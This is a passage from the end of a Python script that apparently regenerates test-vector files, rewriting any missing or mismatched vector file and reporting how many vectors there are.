        if name not in present or parse(present[name].read_bytes()) != (fields, data):
            (HERE / f"{name}.txt").write_bytes(render(fields, data))
    print(f"{len(VECTORS)} vectors")
    return 0


if __name__ == "__main__":
    sys.exit(main())
